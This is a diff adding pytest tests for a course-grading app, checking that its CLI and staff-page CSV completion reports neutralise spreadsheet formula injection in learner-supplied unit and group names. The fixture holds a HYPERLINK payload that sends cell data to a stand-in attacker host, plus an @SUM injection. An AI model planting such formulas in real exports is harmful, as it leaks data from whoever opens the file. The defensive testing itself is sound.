@@ -1,0 +1,56 @@
+"""The completion report's CSV (from `hocvuso report` and the staff page) opens as data in a spreadsheet.
+
+A unit name is typed by whoever enrols learners (an LMS profile field, a grade report): a name such as
+`=HYPERLINK(...)` once came out as a live formula from both exports.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from graders import cli
+from graders.intake import ProgressEvent, record_progress
+
+from .mini_course import COURSE_ID
+
+pytestmark = pytest.mark.django_db
+
+PAYLOAD = '=HYPERLINK("http://attacker.invalid/?d="&A2,"Xem chứng chỉ")'
+
+
+@pytest.fixture
+def hostile_unit(mini_course, learner_info):
+    record_progress([ProgressEvent(learner_info("u1", "sub-1", unit=PAYLOAD, group="@SUM(A1:A9)"), COURSE_ID,
+                                   "s1_mo_khoa", earned=1, possible=1, completed=True)], schedule=False)
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _assert_defused(text: str) -> None:
+    cells = _cells(text)
+    assert "'" + PAYLOAD in cells and "'@SUM(A1:A9)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+
+
+def test_cli_report_defuses_formulas(hostile_unit, capsys):
+    assert cli.main(["report"]) == 0
+    _assert_defused(capsys.readouterr().out)
+
+
+def test_cli_report_to_a_file_defuses_formulas(hostile_unit, tmp_path):
+    target = tmp_path / "report.csv"
+    assert cli.main(["report", "-o", str(target)]) == 0
+    _assert_defused(target.read_text(encoding="utf-8"))
+
+
+def test_staff_page_csv_defuses_formulas(hostile_unit, client, django_user_model):
+    staff = django_user_model.objects.create_user("giao_vien", password="x", is_staff=True)
+    client.force_login(staff)
+    response = client.get("/staff/reports/completions", {"format": "csv"})
+    assert response.status_code == 200
+    _assert_defused(response.content.decode("utf-8-sig"))
